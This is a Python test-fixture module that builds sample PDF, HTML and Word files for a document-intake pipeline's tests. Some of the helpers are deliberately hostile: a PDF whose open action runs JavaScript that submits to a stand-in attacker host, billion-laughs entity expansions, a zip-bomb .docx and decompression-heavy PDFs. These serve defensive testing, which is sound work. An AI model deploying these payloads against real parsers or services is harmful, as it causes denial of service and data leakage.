"""Test documents for intake, built in the tests themselves (no binary blobs in the repository).

Shared by the extraction tests, the upload flow and the browser journey: each helper
returns the bytes of one document, good or hostile.
"""

from __future__ import annotations

import io
import json
import zipfile
from html import escape

#: What a page of make_pdf() says when no text is given; real words, for the language detector.
LOREM = "The ministry said the naval base would stay open until the end of the year."


def _pdf_string(text: str) -> bytes:
    # A literal string in WinAnsi (latin-1) with the three special characters escaped.
    raw = text.encode("latin-1", errors="replace")
    return b"(" + raw.replace(b"\\", b"\\\\").replace(b"(", b"\\(").replace(b")", b"\\)") + b")"


def _pdf_date(value: str) -> str:
    # PDF dates may stop after the year or the month, as partial dates do.
    return "D:" + value.replace("-", "")


def _assemble(objects: list[bytes], *, trailer_extra: bytes = b"") -> bytes:
    """A PDF file from its numbered objects (1-based, object 1 is the catalog), with a correct xref."""
    out = io.BytesIO()
    out.write(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
    offsets = []
    for number, body in enumerate(objects, start=1):
        offsets.append(out.tell())
        out.write(b"%d 0 obj\n" % number + body + b"\nendobj\n")
    xref = out.tell()
    out.write(b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1))
    for offset in offsets:
        out.write(b"%010d 00000 n \n" % offset)
    out.write(
        b"trailer\n<< /Size %d /Root 1 0 R %s>>\nstartxref\n%d\n%%%%EOF\n" % (len(objects) + 1, trailer_extra, xref)
    )
    return out.getvalue()


def make_pdf(pages: list[str], info: dict[str, str] | None = None, *, catalog_extra: bytes = b"") -> bytes:
    """A text-layer PDF, one page per string (lines split on "\\n"), Helvetica 12 pt.

    ``info`` keys: title, author, subject, creator, producer, created ("2024-03-05",
    "2024-03" or "2024"), written to the document information dictionary.
    """
    info = info or {}
    n = len(pages)
    # Objects: 1 catalog, 2 pages, 3 font, 4 info, then page i at 5+2i and its content at 6+2i.
    kids = b" ".join(b"%d 0 R" % (5 + 2 * i) for i in range(n))
    objects = [
        b"<< /Type /Catalog /Pages 2 0 R " + catalog_extra + b">>",
        b"<< /Type /Pages /Kids [" + kids + b"] /Count %d >>" % n,
        b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica /Encoding /WinAnsiEncoding >>",
    ]
    fields = {
        "title": b"/Title",
        "author": b"/Author",
        "subject": b"/Subject",
        "creator": b"/Creator",
        "producer": b"/Producer",
    }
    entries = [fields[key] + b" " + _pdf_string(value) for key, value in info.items() if key in fields]
    if info.get("created"):
        entries.append(b"/CreationDate " + _pdf_string(_pdf_date(info["created"])))
    objects.append(b"<< " + b" ".join(entries) + b" >>")
    for i, text in enumerate(pages):
        ops = [b"BT /F1 12 Tf 14 TL 72 720 Td"]
        for line in text.split("\n"):
            ops.append(_pdf_string(line) + b" Tj T*")
        ops.append(b"ET")
        stream = b"\n".join(ops)
        objects.append(
            b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] "
            b"/Resources << /Font << /F1 3 0 R >> >> /Contents %d 0 R >>" % (6 + 2 * i)
        )
        objects.append(b"<< /Length %d >>\nstream\n" % len(stream) + stream + b"\nendstream")
    return _assemble(objects, trailer_extra=b"/Info 4 0 R ")


def make_pdf_with_heavy_page(text: str = LOREM, *, megabytes: int = 3) -> bytes:
    """One page whose Flate-compressed content stream draws ``megabytes`` MB of line segments after its text."""
    import zlib

    drawing = b"0 0 m 1 1 l S\n" * (megabytes * 1024 * 1024 // 14)
    stream = zlib.compress(b"BT /F1 12 Tf 72 720 Td " + _pdf_string(text) + b" Tj ET\n" + drawing, 9)
    objects = [
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Kids [4 0 R] /Count 1 >>",
        b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica /Encoding /WinAnsiEncoding >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] "
        b"/Resources << /Font << /F1 3 0 R >> >> /Contents 5 0 R >>",
        b"<< /Length %d /Filter /FlateDecode >>\nstream\n" % len(stream) + stream + b"\nendstream",
    ]
    return _assemble(objects)


def make_pdf_with_forms(text: str, forms: dict[str, bytes], *, draws: bytes = b"/A Do") -> bytes:
    """One page that shows ``text`` and then runs ``draws``; ``forms`` are form XObjects by name,
    each able to draw the others (e.g. {"A": b"/B Do " * 5000, "B": b"0 0 m 1 1 l S"})."""
    names = list(forms)
    first = 5  # objects 1-4: catalog, pages, font, page; then the content, then one per form
    table = b" ".join(b"/%s %d 0 R" % (name.encode(), first + 1 + i) for i, name in enumerate(names))
    resources = b"<< /Font << /F1 3 0 R >> /XObject << " + table + b" >> >>"
    content = b"BT /F1 12 Tf 72 720 Td " + _pdf_string(text) + b" Tj ET\n" + draws
    objects = [
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Kids [4 0 R] /Count 1 >>",
        b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica /Encoding /WinAnsiEncoding >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Resources " + resources + b" /Contents 5 0 R >>",
        b"<< /Length %d >>\nstream\n" % len(content) + content + b"\nendstream",
    ]
    for name in names:
        body = forms[name]
        objects.append(
            b"<< /Type /XObject /Subtype /Form /BBox [0 0 612 792] /Resources "
            + resources
            + b" /Length %d >>\nstream\n" % len(body)
            + body
            + b"\nendstream"
        )
    return _assemble(objects)


def make_pdf_with_javascript(pages: list[str] | None = None) -> bytes:
    """A text PDF that runs JavaScript on opening (an /OpenAction) — readers must never run it."""
    js = b"<< /S /JavaScript /JS (app.alert\\('pwned'\\); this.submitForm\\('http://evil.example/'\\);) >>"
    return make_pdf(pages or [LOREM], {"title": "Scripted"}, catalog_extra=b"/OpenAction " + js + b" ")


def make_encrypted_pdf(pages: list[str] | None = None, *, user_password: str = "secret") -> bytes:
    """A PDF encrypted with RC4-128 (pypdf needs no extra package for it). ``user_password=""``
    gives the common "owner password only" kind that anyone may open."""
    from pypdf import PdfReader, PdfWriter

    writer = PdfWriter(clone_from=PdfReader(io.BytesIO(make_pdf(pages or [LOREM]))))
    writer.encrypt(user_password=user_password, owner_password="owner-secret", algorithm="RC4-128")
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def make_scanned_pdf(pages: list[str], *, font_size: int = 40) -> bytes:
    """An image-only PDF (no text layer), as a scanner makes: each string drawn large on a white page.

    An empty string gives a blank page, which OCR must find nothing on.
    """
    from PIL import Image, ImageDraw, ImageFont

    font = ImageFont.load_default(size=font_size)
    images = []
    for text in pages:
        image = Image.new("L", (1700, 2200), 255)  # US Letter at 200 dpi
        draw = ImageDraw.Draw(image)
        y = 150
        for line in text.split("\n"):
            draw.text((150, y), line, fill=0, font=font)
            y += int(font_size * 1.6)
        images.append(image)
    out = io.BytesIO()
    images[0].save(out, format="PDF", save_all=True, append_images=images[1:], resolution=200.0)
    return out.getvalue()


def truncated(data: bytes, *, keep: float = 0.5) -> bytes:
    """The first ``keep`` of a file, as an interrupted download leaves it."""
    return data[: max(1, int(len(data) * keep))]


def make_html(
    *,
    title: str = "Base talks continue",
    paragraphs: list[str] | None = None,
    lang: str = "en",
    meta: dict[str, str] | None = None,
    json_ld: dict | None = None,
    canonical: str = "",
    scripts: bool = True,
) -> str:
    """A page as a browser saves it: head metadata, navigation, an article, scripts and styles.

    ``meta``: name/property -> content, e.g. {"author": "A. Writer", "og:site_name": "The Paper",
    "article:published_time": "2024-03-05T10:00:00Z"}. Returns ``str``; encode it to drop it as a file.
    """
    paragraphs = paragraphs or [
        LOREM,
        "Officials said the agreements would be respected by both sides, according to a statement.",
        "The talks are expected to continue next month in the capital, the spokesman added.",
    ]
    head = [f"<title>{escape(title)}</title>", '<meta charset="utf-8">']
    for key, value in (meta or {}).items():
        attr = "property" if key.startswith(("og:", "article:")) else "name"
        head.append(f'<meta {attr}="{escape(key)}" content="{escape(value)}">')
    if canonical:
        head.append(f'<link rel="canonical" href="{escape(canonical)}">')
    if json_ld:
        head.append(f'<script type="application/ld+json">{json.dumps(json_ld)}</script>')
    if scripts:
        head.append("<script>document.write('SCRIPT-TEXT-MUST-NOT-APPEAR');</script>")
        head.append("<style>body::after { content: 'STYLE-TEXT-MUST-NOT-APPEAR'; }</style>")
    body = "\n".join(f"<p>{escape(p)}</p>" for p in paragraphs)
    tail = "<script>var x = 'SCRIPT-TEXT-MUST-NOT-APPEAR';</script>" if scripts else ""
    return (
        f'<!DOCTYPE html>\n<html lang="{escape(lang)}">\n<head>\n' + "\n".join(head) + "\n</head>\n<body>\n"
        '<nav><a href="/">Home</a> <a href="/world">World</a></nav>\n'
        f"<article>\n<h1>{escape(title)}</h1>\n{body}\n</article>\n{tail}\n"
        "<footer>Copyright The Paper</footer>\n</body>\n</html>\n"
    )


def make_billion_laughs_html() -> bytes:
    """XHTML with an internal DTD whose entity expands to 10^9 "lol"s, plus scripts."""
    entities = ['<!ENTITY lol "lol">'] + [
        f'<!ENTITY lol{i} "{("&lol" + (str(i - 1) if i > 1 else "") + ";") * 10}">' for i in range(1, 10)
    ]
    doctype = "<!DOCTYPE html [\n" + "\n".join(entities) + "\n]>"
    page = make_html(title="Laughs", json_ld=None).replace("<!DOCTYPE html>", doctype)
    page = page.replace("<title>Laughs</title>", "<title>&lol9;</title>").replace(
        "</article>", "<p>&lol9;</p></article>"
    )
    return ('<?xml version="1.0" encoding="utf-8"?>\n' + page).encode()


_CONTENT_TYPES = (
    '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
    '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
    '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
    '<Default Extension="xml" ContentType="application/xml"/>'
    '<Override PartName="/word/document.xml" '
    'ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/>'
    "</Types>"
)
_RELS = (
    '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
    '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" '
    'Target="word/document.xml"/></Relationships>'
)


def _document_xml(text: str, doctype: str = "") -> str:
    return (
        '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>' + doctype + "<w:document xmlns:w="
        '"http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body>'
        f"<w:p><w:r><w:t>{text}</w:t></w:r></w:p></w:body></w:document>"
    )


def make_docx(
    paragraphs: list[str] | None = None, core: dict | None = None, *, table: list[list[str]] | None = None
) -> bytes:
    """A Word document made by python-docx; ``core``: title, author, language, created (a datetime)..."""
    import docx

    document = docx.Document()
    for text in paragraphs if paragraphs is not None else [LOREM]:
        document.add_paragraph(text)
    if table:
        grid = document.add_table(rows=len(table), cols=len(table[0]))
        for r, row in enumerate(table):
            for c, cell in enumerate(row):
                grid.cell(r, c).text = cell
    # python-docx's template says author "python-docx", created 2013-12-23: clear both,
    # so a test sees only the properties it sets.
    document.core_properties.author = ""
    if "created" not in (core or {}):
        element = document.core_properties._element
        for created in element.findall("{http://purl.org/dc/terms/}created"):
            element.remove(created)
    for key, value in (core or {}).items():
        setattr(document.core_properties, key, value)
    out = io.BytesIO()
    document.save(out)
    return out.getvalue()


def make_zip_bomb_docx(*, megabytes: int = 60) -> bytes:
    """A valid-looking .docx whose one extra part inflates to ``megabytes`` MB of zeros (~1000:1)."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", compression=zipfile.ZIP_DEFLATED, compresslevel=9) as archive:
        archive.writestr("[Content_Types].xml", _CONTENT_TYPES)
        archive.writestr("_rels/.rels", _RELS)
        archive.writestr("word/document.xml", _document_xml(escape(LOREM)))
        with archive.open("word/media/image1.bin", "w", force_zip64=True) as part:
            chunk = b"\0" * (1024 * 1024)
            for _ in range(megabytes):
                part.write(chunk)
    return out.getvalue()


def make_entity_docx() -> bytes:
    """A .docx whose document.xml declares a billion-laughs DTD (OOXML never has a DOCTYPE)."""
    entities = '<!ENTITY a "aaaaaaaaaa">' + "".join(
        f'<!ENTITY {name} "{("&" + prev + ";") * 10}">' for prev, name in zip("abcdefgh", "bcdefghi", strict=True)
    )
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", compression=zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("[Content_Types].xml", _CONTENT_TYPES)
        archive.writestr("_rels/.rels", _RELS)
        archive.writestr("word/document.xml", _document_xml("&i;", f"<!DOCTYPE w:document [{entities}]>"))
    return out.getvalue()
